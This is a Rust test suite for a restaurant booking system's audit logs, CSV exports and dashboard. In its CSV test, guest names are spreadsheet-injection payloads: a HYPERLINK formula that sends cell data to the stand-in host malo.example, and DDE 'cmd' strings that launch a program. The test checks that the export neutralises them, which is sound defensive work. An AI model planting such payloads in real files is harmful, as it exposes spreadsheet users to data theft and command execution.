//! The audit logs (with their CSV) and the dashboard.

use chrono::{DateTime, Utc};
use serde_json::{json, Value};
use sqlx::types::Json;
use sqlx::Connection;

use crate::helpers::{en_ambos, leer, spawn_app, TestApp};

/// Writes an audit entry straight into the database, for a byte-exact export.
#[allow(clippy::too_many_arguments)]
async fn anotar(
    app: &TestApp,
    sucursal: &str,
    id: &str,
    at: &str,
    usuario: &str,
    (entidad, accion): (&str, &str),
    registro: &str,
    (antes, despues): (Option<Value>, Value),
) {
    let at: DateTime<Utc> = at.parse().unwrap();
    macro_rules! insertar {
        ($con:expr) => {{
            let mut con = $con;
            sqlx::query("INSERT INTO bitacora (id, at, usuario_id, usuario_name, sucursal_id, entidad, entidad_id, accion, antes, despues) VALUES ($1, $2, NULL, $3, $4, $5, $6, $7, $8, $9)")
                .bind(id).bind(at).bind(usuario).bind(sucursal).bind(entidad).bind(registro).bind(accion).bind(antes.clone().map(Json)).bind(Json(despues.clone()))
                .execute(&mut con).await.unwrap();
        }};
    }
    if app.database_url.starts_with("sqlite:") {
        insertar!(sqlx::SqliteConnection::connect(&app.database_url)
            .await
            .unwrap());
    } else {
        insertar!(sqlx::PgConnection::connect(&app.database_url)
            .await
            .unwrap());
    }
}

/// The cells of a CSV file, row by row (RFC 4180: a quoted field may hold commas, doubled
/// quotes and line breaks), the byte-order mark left out.
fn celdas(texto: &str) -> Vec<Vec<String>> {
    let (mut filas, mut fila, mut celda) = (Vec::new(), Vec::new(), String::new());
    let mut letras = texto.trim_start_matches('\u{FEFF}').chars().peekable();
    let mut entre_comillas = false;
    while let Some(c) = letras.next() {
        match c {
            '"' if entre_comillas && letras.peek() == Some(&'"') => {
                letras.next();
                celda.push('"');
            }
            '"' if entre_comillas => entre_comillas = false,
            '"' if celda.is_empty() => entre_comillas = true,
            ',' if !entre_comillas => fila.push(std::mem::take(&mut celda)),
            '\r' if !entre_comillas && letras.peek() == Some(&'\n') => {
                letras.next();
                fila.push(std::mem::take(&mut celda));
                filas.push(std::mem::take(&mut fila));
            }
            _ => celda.push(c),
        }
    }
    assert!(
        celda.is_empty() && fila.is_empty(),
        "the file ends with a line break"
    );
    filas
}

async fn csv(app: &TestApp, token: &str, ruta: &str) -> (u16, String, Vec<u8>) {
    let r = app
        .client
        .get(app.url(ruta))
        .bearer_auth(token)
        .header("accept", "text/csv")
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    let tipo = r
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default();
    (status, tipo, r.bytes().await.unwrap().to_vec())
}

/// Every entry of a log that `q` finds, page after page.
async fn todas(app: &TestApp, token: &str, log: &str, q: &str) -> Vec<Value> {
    let mut items = Vec::new();
    for page in 1.. {
        let ruta = format!(
            "/api/v1/admin/logs/{log}?tag=polanco&limit=200&page={page}&q={}",
            urlencoding(q)
        );
        let r = app.get(&ruta, Some(token)).await.es_exito().clone();
        let lote = r["items"].as_array().unwrap().clone();
        items.extend(lote);
        if items.len() as u64 >= r["total"].as_u64().unwrap() {
            return items;
        }
    }
    unreachable!()
}

fn urlencoding(q: &str) -> String {
    q.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

en_ambos! {
    async fn each_change_appears_in_its_branchs_log_with_who_and_when(motor: Motor) {
        let app = spawn_app(motor).await;
        let t = app.token("gerente@demo.mx").await;
        let w = app.get("/api/v1/admin/walkin?tag=polanco&slug=todas", Some(&t)).await;
        assert!(w.es_exito()["total"].as_u64().unwrap() >= 3);
        let r = app.get("/api/v1/admin/logs/walkin?tag=polanco", Some(&t)).await;
        let entradas = r.es_exito()["items"].as_array().unwrap().clone();
        assert!(entradas.iter().all(|e| e["entidad"] == "walkin" && e["usuario_name"] == "Hilda Hostess" && e["at"].is_string()), "{entradas:?}");
        // A cancel is logged with its author and shows first.
        let p = app.get("/api/v1/admin/reservacion?tag=polanco&status=pendientes", Some(&t)).await.es_exito()["items"][0]["_id"].as_str().unwrap().to_owned();
        app.put(&format!("/api/v1/admin/reservacion/{p}/cancel?tag=polanco"), Some(&t)).await.es_exito();
        let r = app.get("/api/v1/admin/logs/reserva?tag=polanco", Some(&t)).await;
        let primera = r.es_exito()["items"][0].clone();
        assert_eq!((primera["accion"].as_str(), primera["entidad_id"].as_str(), primera["usuario_name"].as_str()), (Some("cancelar"), Some(p.as_str()), Some("Gabriela Gerente")));
        let acciones: Vec<String> = r.es_exito()["items"].as_array().unwrap().iter().map(|e| e["accion"].as_str().unwrap().to_owned()).collect();
        for a in ["asistencia", "cancelar"] {
            assert!(acciones.iter().any(|x| x == a), "{a} in {acciones:?}");
        }
        // Searching by author narrows; another branch's entries never show.
        let r = app.get("/api/v1/admin/logs/reserva?tag=polanco&q=gabriela%20gerente", Some(&t)).await;
        assert_eq!(r.es_exito()["total"], 1);
        let r = app.get("/api/v1/admin/logs/reserva?tag=satelite&q=gabriela%20gerente", Some(&t)).await;
        assert_eq!(r.es_exito()["total"], 0);
    }

    async fn a_creation_entry_holds_the_record_and_the_log_finds_it_by_name_and_folio(motor: Motor) {
        let app = spawn_app(motor).await;
        // Many walk-ins at one table: the floor is not what this test is about.
        crate::helpers::sin_mesas(&app, "polanco").await;
        crate::helpers::sin_mesas(&app, "satelite").await;
        let hostess = app.token("hostess@demo.mx").await;
        // The manager's session, renewed when the test moves the clock past its day.
        let t = std::cell::RefCell::new(app.token("gerente@demo.mx").await);
        let mesero = app.get("/api/v1/admin/meseros?tag=polanco", Some(&hostess)).await.es_exito()[0].clone();
        let cuerpo = json!({
            "tag_sucursal": "polanco", "name": "Familia Quiroga", "email": "quiroga@correo.mx", "phone": "", "evento": "Aniversario",
            "comanda": { "mesa": "12", "mesero_id": mesero["_id"], "no_personas": 4, "buffet_adulto": 3, "buffet_boy": 1,
                         "buffet_promo_adulto": 4, "buffet_promo_girl": 0, "buffet_promo_boy": 0, "isAfter7pm": false },
            "abre": { "promo": [] }
        });
        let w = app.post_json("/api/v1/admin/walkin", Some(&hostess), &cuerpo).await.es_exito_201().clone();
        let folio = w["folio"].as_str().unwrap().to_owned();
        let buscar = |log: &'static str, q: String| {
            let (app, t) = (&app, t.borrow().clone());
            async move { app.get(&format!("/api/v1/admin/logs/{log}?tag=polanco&q={q}"), Some(&t)).await.es_exito().clone() }
        };
        // By the guest's name, in another case, and by the folio as printed: the walk-in's own entry.
        for q in ["quiroga".to_owned(), folio.clone(), folio.to_lowercase()] {
            let r = buscar("walkin", q.clone()).await;
            assert_eq!(r["total"], 1, "{q}: {r}");
            let e = &r["items"][0];
            assert_eq!((e["entidad_id"].as_str(), e["accion"].as_str(), e["usuario_name"].as_str()), (w["_id"].as_str(), Some("registrar"), Some("Hilda Hostess")));
            assert!(e["antes"].is_null());
            assert_eq!(e["despues"], json!({ "name": "Familia Quiroga", "folio": folio, "fecha_hora": w["fecha_hora"], "no_personas": 4,
                                             "mesa": "12", "mesero": mesero["name"], "evento": "Aniversario" }));
            assert!(e["despues"].get("email").is_none(), "the log's readers need not see the contact");
            assert_eq!(e["registro"], format!("Familia Quiroga (folio {folio})"));
            assert_eq!(e["enlace"], json!({ "tipo": "walkin", "_id": w["_id"] }));
            assert_eq!(e["accion_etiqueta"], "Registro");
        }
        // Every walk-in entry holds its record, the demo's too; a field's name is not a value.
        let token = t.borrow().clone();
        let todas = app.get("/api/v1/admin/logs/walkin?tag=polanco&limit=200", Some(&token)).await.es_exito()["items"].clone();
        assert!(todas.as_array().unwrap().iter().all(|e| e["despues"]["name"].is_string() && e["despues"]["folio"].is_string()), "{todas}");
        assert_eq!(buscar("walkin", "no_personas".to_owned()).await["total"], 0);
        let token = t.borrow().clone();
        assert_eq!(app.get("/api/v1/admin/logs/walkin?tag=satelite&q=quiroga", Some(&token)).await.es_exito()["total"], 0);

        // A booking's creation holds it; the attendance entry holds its folio.
        let fecha = app.hoy() + chrono::Duration::days(2);
        let reserva = json!({ "tag": "polanco", "name": "Renata Villaseñor", "email": "renata@correo.mx", "fecha_hora": format!("{fecha} 15:00"),
                              "no_personas": 2, "evento": "Ninguno", "origin": "Concierge" });
        let r = app.post_json("/api/v1/public/reservacion", None, &reserva).await;
        let id = r.es_exito_201()["_id"].as_str().unwrap().to_owned();
        let r = buscar("reserva", "villase".to_owned()).await;
        assert_eq!(r["total"], 1, "{r}");
        let e = &r["items"][0];
        assert_eq!((e["entidad_id"].as_str(), e["accion"].as_str(), e["usuario_name"].as_str()), (Some(id.as_str()), Some("crear"), Some("Concierge")));
        assert_eq!(e["despues"], json!({ "name": "Renata Villaseñor", "fecha_hora": format!("{fecha} 15:00"), "no_personas": 2, "evento": "Ninguno",
                                         "comentarios": "", "origin": "Concierge", "status": "Pendiente" }));
        let asistencia = json!({ "tag_sucursal": "polanco", "status": "Asistio", "no_personas": 2,
            "comanda": { "mesa": "3", "mesero_id": mesero["_id"], "no_personas": 2, "buffet_adulto": 2, "buffet_boy": 0,
                         "buffet_promo_adulto": 2, "buffet_promo_girl": 0, "buffet_promo_boy": 0, "isAfter7pm": false },
            "abre": { "promo": [] } });
        // The guest arrives on the day, a few minutes before their time.
        app.llevar_reloj_a(&format!("{fecha} 14:55"));
        let hostess = app.token("hostess@demo.mx").await;
        *t.borrow_mut() = app.token("gerente@demo.mx").await;
        let a = app.put_json(&format!("/api/v1/admin/reservacion/{id}/asistencia"), Some(&hostess), &asistencia).await.es_exito().clone();
        let r = buscar("reserva", a["folio"].as_str().unwrap().to_owned()).await;
        assert_eq!(r["total"], 1, "{r}");
        assert_eq!((r["items"][0]["accion"].as_str(), r["items"][0]["despues"]["name"].as_str()), (Some("asistencia"), Some("Renata Villaseñor")));
        assert_eq!(buscar("reserva", "villase".to_owned()).await["total"], 2, "its creation and its attendance");
        // The demo's bookings have their creation entries too.
        let token = t.borrow().clone();
        let demo = app.get("/api/v1/admin/reservacion?tag=polanco&status=todas&limit=1", Some(&token)).await.es_exito()["items"][0].clone();
        let entradas = app.store.bitacora_de(demo["_id"].as_str().unwrap()).await.unwrap();
        assert_eq!(entradas[0].accion, "crear");
        assert_eq!(entradas[0].despues.as_ref().unwrap().0["name"], demo["name"]);
    }

    async fn the_reservation_log_is_read_and_searched_in_the_screens_words(motor: Motor) {
        let app = spawn_app(motor).await;
        let t = app.token("gerente@demo.mx").await;
        // One booking is cancelled; another, booked for today by staff, is a no-show.
        let fecha = app.hoy() + chrono::Duration::days(2);
        let reserva = json!({ "tag": "polanco", "name": "Renata Villaseñor", "email": "renata@correo.mx", "fecha_hora": format!("{fecha} 15:00"),
                              "no_personas": 2, "evento": "Ninguno", "origin": "Concierge" });
        let renata = app.post_json("/api/v1/public/reservacion", None, &reserva).await.es_exito_201()["_id"].as_str().unwrap().to_owned();
        app.put(&format!("/api/v1/admin/reservacion/{renata}/cancel?tag=polanco"), Some(&t)).await.es_exito();
        let hoy = app.hoy();
        let reserva = json!({ "tag": "polanco", "name": "Mónica Durán", "email": "monica@correo.mx", "fecha_hora": format!("{hoy} 15:00"),
                              "no_personas": 3, "evento": "Ninguno", "comentarios": "" });
        let monica = app.post_json("/api/v1/admin/reservacion", Some(&t), &reserva).await.es_exito_201()["_id"].as_str().unwrap().to_owned();
        app.llevar_reloj_a(&format!("{hoy} 17:00"));
        assert!(anfitrion_server::jobs::marcar_no_shows(app.store.as_ref(), app.reloj.ahora()).await.unwrap() >= 1);
        let t = app.token("gerente@demo.mx").await;
        // An entry that holds the state without being the no-show job's (an edit of its status).
        let ahora = app.reloj.ahora().to_rfc3339();
        anotar(&app, &app.id_sucursal("polanco").await, "e1", &ahora, "Gabriela Gerente", ("reservacion", "editar"), &monica,
               (Some(json!({ "status": "Pendiente" })), json!({ "status": "Vencido" }))).await;

        // Every entry names its record in words, links to it, and labels its action: no code, no id.
        let log = todas(&app, &t, "reserva", "").await;
        assert!(log.len() > 10, "the demo's entries and ours: {}", log.len());
        for e in &log {
            let registro = e["registro"].as_str().unwrap();
            assert!(!registro.is_empty() && registro != e["entidad_id"], "{e}");
            assert_eq!(e["enlace"]["tipo"], "reservacion", "{e}");
            assert!(!e["accion_etiqueta"].as_str().unwrap().contains('_'), "{e}");
        }
        let de = |id: &str, accion: &str| log.iter().find(|e| e["entidad_id"] == id && e["accion"] == accion).unwrap().clone();
        let cancelada = de(&renata, "cancelar");
        assert_eq!((cancelada["accion_etiqueta"].as_str(), cancelada["registro"].as_str()), (Some("Cancelación"), Some("Renata Villaseñor")));
        assert_eq!(cancelada["enlace"], json!({ "tipo": "reservacion", "_id": renata }));
        assert_eq!(cancelada["cambios"], json!([{ "campo": "Estado", "antes": "Pendiente", "despues": "Cancelada" }]));
        let vencida = de(&monica, "no_show");
        assert_eq!((vencida["accion_etiqueta"].as_str(), vencida["registro"].as_str(), vencida["usuario_name"].as_str()), (Some("No asistió"), Some("Mónica Durán"), Some("Sistema")));
        assert_eq!(vencida["cambios"], json!([{ "campo": "Estado", "antes": "Pendiente", "despues": "No asistió" }]));
        let alta = de(&monica, "crear");
        assert_eq!(alta["accion_etiqueta"], "Registro");
        assert!(alta["cambios"].as_array().unwrap().contains(&json!({ "campo": "Personas", "antes": null, "despues": "3" })), "{alta}");

        // An action's label finds exactly that action's entries, accents and case aside.
        for q in ["Cancelación", "CANCELACION", "cancelación"] {
            let hallados = todas(&app, &t, "reserva", q).await;
            let esperados = log.iter().filter(|e| e["accion"] == "cancelar").count();
            assert!(esperados >= 2, "the demo's cancellations and ours");
            assert_eq!(hallados.len(), esperados, "{q}");
            assert!(hallados.iter().all(|e| e["accion_etiqueta"] == "Cancelación"), "{q}");
        }
        // A state's label: the no-shows, by their action and by the state they left the booking in.
        for q in ["No asistió", "no asistio", "NO ASISTIÓ"] {
            let hallados = todas(&app, &t, "reserva", q).await;
            let dicen = |e: &Value| e["accion"] == "no_show" || e["cambios"].as_array().unwrap().iter().any(|c| c["despues"] == "No asistió" || c["antes"] == "No asistió");
            assert_eq!(hallados.len(), log.iter().filter(|e| dicen(e)).count(), "{q}");
            assert!(hallados.iter().all(dicen), "{q}");
            for accion in ["no_show", "editar"] {
                assert!(hallados.iter().any(|e| e["entidad_id"] == monica.as_str() && e["accion"] == accion), "{q}: {accion}");
            }
        }
        // A guest's name finds every entry of their booking, the cancellation too (which holds no name).
        for (q, id) in [("villasenor", &renata), ("RENATA VILLASEÑOR", &renata), ("monica duran", &monica)] {
            let hallados = todas(&app, &t, "reserva", q).await;
            let mut acciones: Vec<&str> = hallados.iter().map(|e| e["accion"].as_str().unwrap()).collect();
            acciones.sort_unstable();
            assert_eq!(acciones, if id == &renata { vec!["cancelar", "crear"] } else { vec!["crear", "editar", "no_show"] }, "{q}");
            assert!(hallados.iter().all(|e| e["entidad_id"] == id.as_str()), "{q}");
        }
        assert!(todas(&app, &t, "reserva", "Cancelación de nadie").await.is_empty());

        // The CSV holds the same words: labels, the guest, the changes field by field, no JSON.
        let (status, _, cuerpo) = csv(&app, &t, "/api/v1/admin/logs/reserva?tag=polanco&q=villase%C3%B1or").await;
        assert_eq!(status, 200);
        let texto = String::from_utf8(cuerpo).unwrap();
        let lineas: Vec<&str> = texto.trim_start_matches('\u{FEFF}').split("\r\n").filter(|l| !l.is_empty()).collect();
        assert_eq!(lineas[0], "Fecha y hora,Usuario,Acción,Registro,Antes / después");
        let sin_fecha: Vec<&str> = lineas[1..].iter().map(|l| l.split_once(',').unwrap().1).collect();
        assert_eq!(sin_fecha, [
            "Gabriela Gerente,Cancelación,Renata Villaseñor,Estado: Pendiente → Cancelada".to_owned(),
            format!("Concierge,Registro,Renata Villaseñor,Nombre: Renata Villaseñor; Estado: Pendiente; Fecha y hora: {fecha} 15:00; Personas: 2; Evento: Ninguno; Origen: Concierge; Comentarios: (vacío)"),
        ]);
        let (_, _, cuerpo) = csv(&app, &t, "/api/v1/admin/logs/reserva?tag=polanco&q=no%20asisti%C3%B3").await;
        let texto = String::from_utf8(cuerpo).unwrap();
        assert!(texto.contains("Sistema,No asistió,Mónica Durán,Estado: Pendiente → No asistió\r\n"), "{texto}");
        assert!(!texto.contains('{') && !texto.contains("no_show") && !texto.contains("Vencido"), "{texto}");
    }

    async fn no_call_changes_or_deletes_an_entry_and_guards_hold(motor: Motor) {
        let app = spawn_app(motor).await;
        let t = app.token("gerente@demo.mx").await;
        for ruta in ["/api/v1/admin/logs/walkin?tag=polanco", "/api/v1/admin/logs/reserva?tag=polanco"] {
            for metodo in [reqwest::Method::POST, reqwest::Method::PUT, reqwest::Method::DELETE, reqwest::Method::PATCH] {
                let r = leer(app.client.request(metodo, app.url(ruta)).bearer_auth(&t).send().await.unwrap()).await;
                r.es_error(405, "Este método no está permitido para esta ruta.");
            }
        }
        let hostess = app.token("hostess@demo.mx").await;
        app.get("/api/v1/admin/logs/walkin?tag=polanco", Some(&hostess)).await.es_error(403, "No tienes permiso para realizar esta acción.");
        app.get("/api/v1/admin/dashboard?tag=polanco", Some(&hostess)).await.es_error(403, "No tienes permiso para realizar esta acción.");
        app.get("/api/v1/admin/logs/reserva?tag=monterrey", Some(&t)).await.es_error(403, "No tienes acceso a esta sucursal.");
        app.get("/api/v1/admin/dashboard/serie?tag=monterrey", Some(&t)).await.es_error(403, "No tienes acceso a esta sucursal.");
        app.get("/api/v1/admin/logs/walkin?tag=polanco&desde=ayer", Some(&t)).await.es_error(400, "El parámetro «desde» debe ser una fecha AAAA-MM-DD.");
        // Desde after Hasta is said, for the list and its CSV alike.
        let r = app.get("/api/v1/admin/logs/reserva?tag=polanco&desde=2026-12-01&hasta=2026-11-01", Some(&t)).await;
        r.es_error(400, "La fecha de inicio no puede ser posterior a la fecha de fin");
        assert_eq!(r.cuerpo["data"]["campo"], "hasta");
    }

    async fn the_csv_of_a_range_is_exactly_the_expected_file(motor: Motor) {
        let app = spawn_app(motor).await;
        let t = app.token("gerente@demo.mx").await;
        let polanco = app.id_sucursal("polanco").await;
        // 2026-03-10 in Mexico City (UTC-6): 18:00Z is 12:00 local; one entry falls outside the range.
        anotar(&app, &polanco, "b1", "2026-03-10T18:00:00Z", "José Núñez", ("walkin", "registrar"), "w1", (None, json!({ "name": "Peña, \"La Güera\"", "nota": "línea 1\nlínea 2" }))).await;
        anotar(&app, &polanco, "b2", "2026-03-11T01:30:00Z", "Ana", ("walkin", "registrar"), "w2", (None, json!({ "mesa": "4" }))).await;
        anotar(&app, &polanco, "b3", "2026-03-12T18:00:00Z", "Fuera", ("walkin", "registrar"), "w3", (None, json!({}))).await;
        let (status, tipo, cuerpo) = csv(&app, &t, "/api/v1/admin/logs/walkin?tag=polanco&desde=2026-03-10&hasta=2026-03-10").await;
        assert_eq!(status, 200);
        assert!(tipo.starts_with("text/csv"), "{tipo}");
        // A record that is gone reads as the entry names it; a field not in core's table, as its code in words.
        let esperado = "\u{FEFF}Fecha y hora,Usuario,Acción,Registro,Antes / después\r\n\
            2026-03-10 19:30:00,Ana,Registro,,Mesa: 4\r\n\
            2026-03-10 12:00:00,José Núñez,Registro,\"Peña, \"\"La Güera\"\"\",\"Nombre: Peña, \"\"La Güera\"\"; Nota: línea 1\nlínea 2\"\r\n";
        assert_eq!(String::from_utf8(cuerpo.clone()).unwrap(), esperado);
        assert_eq!(&cuerpo[..3], [0xEF, 0xBB, 0xBF], "UTF-8 byte-order mark");
        // Browsers ask for gzip: the compressed stream still ends whole.
        let r = app.client.get(app.url("/api/v1/admin/logs/walkin?tag=polanco")).bearer_auth(&t)
            .header("accept", "text/csv").header("accept-encoding", "gzip").send().await.unwrap();
        assert_eq!(r.headers()["content-encoding"], "gzip");
        assert!(!r.bytes().await.expect("the whole compressed file arrives").is_empty());
    }

    async fn the_dashboard_agrees_with_the_lists(motor: Motor) {
        let app = spawn_app(motor).await;
        let t = app.token("gerente@demo.mx").await;
        let d = coincide_con_las_listas(&app, &t).await;
        let s = app.get("/api/v1/admin/dashboard/serie?tag=polanco&dias=30", Some(&t)).await;
        let serie = s.es_exito().as_array().unwrap().clone();
        assert_eq!(serie.len(), 30);
        assert_eq!(serie[29], d, "the series ends with today, counted the same way");
        app.get("/api/v1/admin/dashboard/serie?tag=polanco&dias=91", Some(&t)).await.es_error(400, "El parámetro «dias» va de 1 a 90.");
    }

    /// The dashboard's sums are kept in each write's transaction: after a booking, an edit of
    /// its party and hour, a cancellation and a walk-in, the day still agrees with the lists.
    async fn the_dashboard_follows_every_write(motor: Motor) {
        let app = spawn_app(motor).await;
        crate::helpers::sin_mesas(&app, "polanco").await;
        let t = app.token("gerente@demo.mx").await;
        let antes = coincide_con_las_listas(&app, &t).await;
        let hoy = app.hoy();
        let cuerpo = json!({ "tag": "polanco", "name": "Tablero Vivo", "email": "", "phone": "525511119999",
            "fecha_hora": format!("{hoy} 20:00"), "no_personas": 3, "evento": "Ninguno", "comentarios": "", "origin": "Chatbot" });
        let r = app.post_json("/api/v1/admin/reservacion", Some(&t), &cuerpo).await;
        let nueva = r.es_exito_201().clone();
        let id = nueva["_id"].as_str().unwrap();
        let d = coincide_con_las_listas(&app, &t).await;
        assert_eq!(d["personas_esperadas"].as_u64(), Some(antes["personas_esperadas"].as_u64().unwrap() + 3));
        // Another hour and party: the sums move from one hour to the other.
        let mut editada = nueva.clone();
        editada["no_personas"] = json!(5);
        editada["fecha_hora"] = json!(format!("{hoy} 21:00"));
        app.put_json(&format!("/api/v1/admin/reservacion/{id}?tag=polanco"), Some(&t), &editada).await.es_exito();
        let d = coincide_con_las_listas(&app, &t).await;
        assert_eq!(d["personas_esperadas"].as_u64(), Some(antes["personas_esperadas"].as_u64().unwrap() + 5));
        app.put_json(&format!("/api/v1/admin/reservacion/{id}/cancel?tag=polanco"), Some(&t), &json!({})).await.es_exito();
        let d = coincide_con_las_listas(&app, &t).await;
        assert_eq!(d["personas_esperadas"], antes["personas_esperadas"]);
        assert_eq!(d["reservaciones"]["cancelada"].as_u64(), Some(antes["reservaciones"]["cancelada"].as_u64().unwrap() + 1));
        let mesero = app.get("/api/v1/admin/meseros?tag=polanco", Some(&t)).await.es_exito()[0]["_id"].clone();
        let walkin = json!({ "tag_sucursal": "polanco", "name": "Paseante", "email": "", "phone": "", "evento": "Ninguno",
            "comanda": { "mesa": "Barra", "mesero_id": mesero, "no_personas": 2, "buffet_adulto": 2, "buffet_boy": 0,
                         "buffet_promo_adulto": 0, "buffet_promo_girl": 0, "buffet_promo_boy": 0, "isAfter7pm": false },
            "abre": { "promo": [] } });
        app.post_json("/api/v1/admin/walkin", Some(&t), &walkin).await.es_exito_201();
        let d = coincide_con_las_listas(&app, &t).await;
        assert_eq!(d["walkins"].as_u64(), Some(antes["walkins"].as_u64().unwrap() + 1));
    }

    async fn a_cell_that_would_run_as_a_formula_reads_as_text_in_the_csv(motor: Motor) {
        let app = spawn_app(motor).await;
        crate::helpers::sin_mesas(&app, "polanco").await;
        let t = app.token("gerente@demo.mx").await;
        let polanco = app.id_sucursal("polanco").await;
        // Guests book from the public page under names a spreadsheet would run.
        let nombres = ["=HYPERLINK(\"http://malo.example/?x=\"&A1,\"Ver\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
        let mut reservas = Vec::new();
        for (i, name) in nombres.iter().enumerate() {
            let cuerpo = json!({ "tag": "polanco", "name": name, "email": format!("huesped{i}@correo.mx"), "phone": "",
                                 "fecha_hora": "2026-12-09 20:00", "no_personas": 2, "evento": "Ninguno", "comentarios": "", "origin": "Widget" });
            let d = app.post_json("/api/v1/public/reservacion", None, &cuerpo).await.es_exito_201().clone();
            let token = d["confirmacion"].as_str().unwrap().rsplit("?t=").next().unwrap().to_owned();
            reservas.push((d["_id"].as_str().unwrap().to_owned(), token));
        }
        // The first cancels from their own page: the entry's author is that guest.
        let (id, token) = &reservas[0];
        app.post_json(&format!("/api/v1/public/reservacion/{id}/cancelar"), None, &json!({ "token": token })).await.es_exito();
        // Entries another program wrote: an author that starts with a tab, a record with a carriage return.
        anotar(&app, &polanco, "b1", "2026-03-10T18:00:00Z", "\t=1+1", ("walkin", "registrar"), "w1", (None, json!({ "name": "\r=2+2" }))).await;

        let (status, _, cuerpo) = csv(&app, &t, "/api/v1/admin/logs/reserva?tag=polanco").await;
        assert_eq!(status, 200);
        let reserva = celdas(&String::from_utf8(cuerpo).unwrap());
        let (_, _, cuerpo) = csv(&app, &t, "/api/v1/admin/logs/walkin?tag=polanco&desde=2026-03-10&hasta=2026-03-10").await;
        let walkin = celdas(&String::from_utf8(cuerpo).unwrap());
        assert_eq!(walkin.len(), 2, "{walkin:?}");
        let todas: Vec<&String> = reserva.iter().chain(&walkin).flatten().collect();
        assert!(todas.len() > 10);
        // No cell begins as a formula does.
        for celda in &todas {
            assert!(!celda.starts_with(['=', '+', '-', '@', '\t', '\r']), "{celda:?}");
        }
        // Each still reads as the name it is, behind one apostrophe: the records, the guest as author.
        let neutralizadas: Vec<String> = nombres.iter().map(|n| format!("'{n}"))
            .chain([format!("'{} (cliente)", nombres[0]), "'\t=1+1".to_owned(), "'\r=2+2".to_owned()]).collect();
        for esperada in &neutralizadas {
            assert!(todas.contains(&esperada), "{esperada:?} en {todas:?}");
        }
        let cancelacion = reserva.iter().find(|f| f[2] == "Cancelación").expect("la cancelación");
        assert_eq!((cancelacion[1].as_str(), cancelacion[3].as_str()), (neutralizadas[4].as_str(), neutralizadas[0].as_str()));
        assert_eq!(&walkin[1][1..4], ["'\t=1+1", "Registro", "'\r=2+2"]);
        // The changes column starts with a field's name and holds the name as it is.
        assert!(reserva.iter().any(|f| f[4].contains(&format!("Nombre: {}", nombres[1]))));
    }
}

/// Today's dashboard of polanco, checked against today's reservation and walk-in lists.
async fn coincide_con_las_listas(app: &TestApp, t: &str) -> Value {
    {
        let hoy = app
            .get("/api/v1/admin/reservacion?tag=polanco&status=hoy", Some(t))
            .await
            .es_exito()
            .as_array()
            .unwrap()
            .clone();
        let walkins = app
            .get("/api/v1/admin/walkin?tag=polanco&slug=hoy", Some(t))
            .await
            .es_exito()["items"]
            .as_array()
            .unwrap()
            .clone();
        let d = app
            .get("/api/v1/admin/dashboard?tag=polanco", Some(t))
            .await
            .es_exito()
            .clone();
        let cuenta = |estado: &str| hoy.iter().filter(|r| r["status"] == estado).count() as u64;
        assert_eq!(
            d["reservaciones"]["pendiente"].as_u64(),
            Some(cuenta("Pendiente"))
        );
        assert_eq!(
            d["reservaciones"]["asistio"].as_u64(),
            Some(cuenta("Asistio"))
        );
        assert_eq!(
            d["reservaciones"]["vencido"].as_u64(),
            Some(cuenta("Vencido"))
        );
        assert_eq!(
            d["reservaciones"]["cancelada"].as_u64(),
            Some(cuenta("Cancelada"))
        );
        assert_eq!(d["walkins"].as_u64(), Some(walkins.len() as u64));
        let esperadas: u64 = hoy
            .iter()
            .filter(|r| r["status"] != "Cancelada")
            .map(|r| r["no_personas"].as_u64().unwrap())
            .sum();
        assert_eq!(d["personas_esperadas"].as_u64(), Some(esperadas));
        let sentadas: u64 = hoy
            .iter()
            .filter(|r| r["status"] == "Asistio")
            .map(|r| r["no_personas"].as_u64().unwrap())
            .sum::<u64>()
            + walkins
                .iter()
                .map(|w| w["no_personas"].as_u64().unwrap())
                .sum::<u64>();
        assert_eq!(d["personas_sentadas"].as_u64(), Some(sentadas));
        let origenes: u64 = d["origenes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|o| o["total"].as_u64().unwrap())
            .sum();
        assert_eq!(origenes, hoy.len() as u64);
        let llegadas: u64 = d["llegadas_por_hora"]
            .as_array()
            .unwrap()
            .iter()
            .map(|o| o["total"].as_u64().unwrap())
            .sum();
        assert_eq!(
            llegadas,
            hoy.iter().filter(|r| r["status"] != "Cancelada").count() as u64 + walkins.len() as u64
        );
        d
    }
}
